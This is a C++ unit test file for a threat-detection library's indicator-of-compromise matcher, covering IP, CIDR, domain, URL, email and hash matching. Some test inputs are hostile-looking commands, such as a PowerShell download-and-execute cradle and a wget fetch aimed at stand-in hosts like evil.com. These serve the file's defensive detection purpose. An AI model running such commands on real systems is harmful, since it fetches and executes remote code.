#include "rampart/detect/ioc_set.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace rampart::detect {
namespace {

IocSet Make(std::initializer_list<const char*> iocs) {
  IocSet set;
  uint32_t tag = 0;
  for (const char* text : iocs) {
    auto v = ClassifyIoc(text);
    EXPECT_TRUE(v.has_value()) << text;
    if (v) set.Add(*v, tag++);
  }
  return set;
}

// The canonical entries hit while scanning `value`.
std::vector<std::string> Hits(const IocSet& set, std::string_view value) {
  std::vector<std::string> out;
  set.ScanValue(value, [&](const IocHit& h) { out.emplace_back(h.ioc); });
  return out;
}

using V = std::vector<std::string>;

std::string fmt_ip(uint32_t i) {
  return "11." + std::to_string(i >> 16) + "." + std::to_string((i >> 8) & 255) + "." + std::to_string(i & 255);
}

TEST(IocClassify, DetectsEveryType) {
  struct Case { const char* text; IocType type; const char* canonical; };
  const Case cases[] = {
      {"10.1.2.3", IocType::kIpv4, "10.1.2.3"},
      {"10.1.2.3/8", IocType::kCidr4, "10.0.0.0/8"},
      {"10.1.2.3/32", IocType::kIpv4, "10.1.2.3"},
      {"2001:DB8::1", IocType::kIpv6, "2001:db8::1"},
      {"2001:db8::/32", IocType::kCidr6, "2001:db8::/32"},
      {"Evil.Example.COM.", IocType::kDomain, "evil.example.com"},
      {"*.evil.com", IocType::kDomain, "evil.com"},
      {"HTTPS://Evil.com:443/a/B/", IocType::kUrl, "evil.com/a/B"},
      {"http://evil.com:8080/x#frag", IocType::kUrl, "evil.com:8080/x"},
      {"evil.com/dl/x.ps1", IocType::kUrl, "evil.com/dl/x.ps1"},
      {"Bad.Guy@Evil.com", IocType::kEmail, "bad.guy@evil.com"},
      {"D41D8CD98F00B204E9800998ECF8427E", IocType::kMd5, "d41d8cd98f00b204e9800998ecf8427e"},
      {"da39a3ee5e6b4b0d3255bfef95601890afd80709", IocType::kSha1, "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
  };
  for (const Case& c : cases) {
    auto v = ClassifyIoc(c.text);
    ASSERT_TRUE(v.has_value()) << c.text;
    EXPECT_EQ(v->type, c.type) << c.text;
    EXPECT_EQ(v->value, c.canonical) << c.text;
  }
  for (const char* bad : {"", "hello", "256.1.1.1.1x", "10.0.0.0/33", "evil.c0m", "-evil.com", "a..b.com",
                          "http://", "d41d8cd98f00b204e9800998ecf8427", "x@y"}) {
    EXPECT_FALSE(ClassifyIoc(bad).has_value()) << bad;
  }
  EXPECT_EQ(ClassifyIoc(std::string(64, 'a'))->type, IocType::kSha256);
  EXPECT_EQ(ClassifyIoc(std::string(128, 'F'))->type, IocType::kSha512);
}

TEST(IocSet, Ipv4ExactAndTokenBoundaries) {
  IocSet set = Make({"5.2.69.14"});
  EXPECT_EQ(Hits(set, "5.2.69.14"), V{"5.2.69.14"});
  EXPECT_EQ(Hits(set, "from=5.2.69.14:443,"), V{"5.2.69.14"});
  EXPECT_TRUE(Hits(set, "15.2.69.14").empty());
  EXPECT_TRUE(Hits(set, "5.2.69.140").empty());
  EXPECT_TRUE(Hits(set, "1.5.2.69.14").empty());  // part of a longer dotted number
  EXPECT_EQ(Hits(set, "5.2.69.14."), V{"5.2.69.14"});  // sentence end
}

TEST(IocSet, CidrEdges) {
  IocSet set = Make({"192.168.10.0/24", "10.0.0.0/8", "0.0.0.0/1"});
  EXPECT_EQ(Hits(set, "192.168.10.0"), (V{"192.168.10.0/24"}));
  EXPECT_EQ(Hits(set, "192.168.10.255"), (V{"192.168.10.0/24"}));
  EXPECT_TRUE(Hits(set, "192.168.11.0").empty());
  EXPECT_TRUE(Hits(set, "192.168.9.255").empty());
  // Longest prefix first; every block containing the address reports.
  EXPECT_EQ(Hits(set, "10.255.255.255"), (V{"10.0.0.0/8", "0.0.0.0/1"}));
  EXPECT_TRUE(Hits(set, "128.0.0.0").empty());
  EXPECT_EQ(Hits(set, "127.255.255.255"), (V{"0.0.0.0/1"}));
  IocSet all = Make({"0.0.0.0/0"});
  EXPECT_EQ(Hits(all, "255.255.255.255"), (V{"0.0.0.0/0"}));
}

TEST(IocSet, Ipv6) {
  IocSet set = Make({"2001:db8::1", "2001:db8:ffff::/48", "fe80::/10"});
  EXPECT_EQ(Hits(set, "src=2001:0db8:0000::0001 port"), (V{"2001:db8::1"}));
  EXPECT_EQ(Hits(set, "2001:DB8:FFFF:1::9"), (V{"2001:db8:ffff::/48"}));
  EXPECT_TRUE(Hits(set, "2001:db8:fffe::1").empty());
  EXPECT_EQ(Hits(set, "[fe80::1%eth0]"), (V{"fe80::/10"}));
  EXPECT_EQ(Hits(set, "febf::1"), (V{"fe80::/10"}));
  EXPECT_TRUE(Hits(set, "fec0::1").empty());
  EXPECT_TRUE(Hits(set, "10:00:00").empty());  // a time is not an address
}

TEST(IocSet, DomainSuffixRules) {
  IocSet set = Make({"evil.com", "c2.example.net"});
  EXPECT_EQ(Hits(set, "evil.com"), V{"evil.com"});
  EXPECT_EQ(Hits(set, "a.b.EVIL.com"), V{"evil.com"});           // subdomains match
  EXPECT_TRUE(Hits(set, "notevil.com").empty());                  // label boundary
  EXPECT_TRUE(Hits(set, "evil.com.au").empty());                  // not a suffix
  EXPECT_TRUE(Hits(set, "example.net").empty());                  // parent does not hit child
  EXPECT_EQ(Hits(set, "x.c2.example.net"), V{"c2.example.net"});
  EXPECT_EQ(Hits(set, "nslookup+x.evil.com"), V{"evil.com"});
  EXPECT_EQ(Hits(set, "GET http://www.evil.com/a.php?q=1"), V{"evil.com"});
  EXPECT_EQ(Hits(set, "mail from bob@evil.com."), V{"evil.com"});
  // Nested listings report every level.
  IocSet nested = Make({"evil.com", "a.evil.com"});
  EXPECT_EQ(Hits(nested, "x.a.evil.com"), (V{"a.evil.com", "evil.com"}));
}

TEST(IocSet, UrlNormalisation) {
  IocSet set = Make({"http://Evil.com/dl/p.ps1", "https://evil.org/", "evil.net/gate.php?id=1"});
  EXPECT_EQ(Hits(set, "IEX((New-Object+Net.WebClient).DownloadString('http://evil.com/dl/p.ps1'))"),
            V{"evil.com/dl/p.ps1"});
  EXPECT_EQ(Hits(set, "HTTPS://EVIL.COM:443/dl/p.ps1"), V{"evil.com/dl/p.ps1"});  // scheme, host case, port
  EXPECT_TRUE(Hits(set, "http://evil.com/dl/P.ps1").empty());                        // path keeps its case
  EXPECT_TRUE(Hits(set, "http://evil.com/dl/p.ps1x").empty());
  EXPECT_EQ(Hits(set, "see http://evil.org"), V{"evil.org"});                       // trailing slash
  EXPECT_EQ(Hits(set, "wget+evil.net/gate.php?id=1+-O+x"), V{"evil.net/gate.php?id=1"});
  EXPECT_EQ(Hits(set, "<a href=\"http://evil.com/dl/p.ps1#x\">"), V{"evil.com/dl/p.ps1"});
}

TEST(IocSet, HashesCaseFoldedAndDelimited) {
  const std::string sha256 = "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0";
  std::string upper = sha256;
  for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  IocSet set = Make({upper.c_str(), "d41d8cd98f00b204e9800998ecf8427e"});
  EXPECT_EQ(Hits(set, "z1=x&z2=" + sha256), V{sha256});
  EXPECT_EQ(Hits(set, "Hashes=SHA256=" + upper + ",MD5=D41D8CD98F00B204E9800998ECF8427E"),
            (V{sha256, "d41d8cd98f00b204e9800998ecf8427e"}));
  EXPECT_EQ(Hits(set, "sample_" + sha256 + ".bin"), V{sha256});
  EXPECT_TRUE(Hits(set, "a" + sha256).empty());         // part of a longer hex run
  EXPECT_TRUE(Hits(set, sha256.substr(0, 63)).empty());
}

TEST(IocSet, EmailAndTags) {
  IocSet set;
  set.Add(*ClassifyIoc("bad@evil.com"), 7);
  set.Add(*ClassifyIoc("BAD@evil.com"), 9);
  set.Add(*ClassifyIoc("bad@evil.com"), 7);
  EXPECT_EQ(set.size(), 1u);
  std::vector<uint32_t> tags;
  set.ScanValue("From: Bad@Evil.com", [&](const IocHit& h) {
    EXPECT_EQ(h.type, IocType::kEmail);
    EXPECT_EQ(h.token, "Bad@Evil.com");
    tags.assign(h.tags, h.tags + h.tag_count);
  });
  EXPECT_EQ(tags, (std::vector<uint32_t>{7, 9}));
}

TEST(IocSet, LookupValueIsExactPerType) {
  IocSet set = Make({"evil.com", "10.0.0.0/8", "http://evil.com/x"});
  size_t n = set.LookupValue(IocType::kDomain, "www.evil.com", [](const IocHit&) {});
  EXPECT_EQ(n, 1u);
  EXPECT_EQ(set.LookupValue(IocType::kIpv4, "10.2.3.4", [](const IocHit&) {}), 1u);
  EXPECT_EQ(set.LookupValue(IocType::kIpv4, "11.2.3.4", [](const IocHit&) {}), 0u);
  EXPECT_EQ(set.LookupValue(IocType::kUrl, "https://EVIL.com/x/", [](const IocHit&) {}), 1u);
  EXPECT_EQ(set.count(IocType::kCidr4), 1u);
}

// The cost of a scan must not depend on the list size: the same value does
// the same number of lookups (hits) whether 10 or 100,000 decoys are listed.
TEST(IocSet, LargeListsStillHitExactly) {
  IocSet set = Make({"evil.com"});
  for (uint32_t i = 0; i < 100000; ++i) {
    set.Add(IocValue{IocType::kIpv4, fmt_ip(i)}, i + 1);
  }
  EXPECT_EQ(Hits(set, "GET /x 11.0.1.2 a.evil.com"), (V{"11.0.1.2", "evil.com"}));
}

}  // namespace
}  // namespace rampart::detect
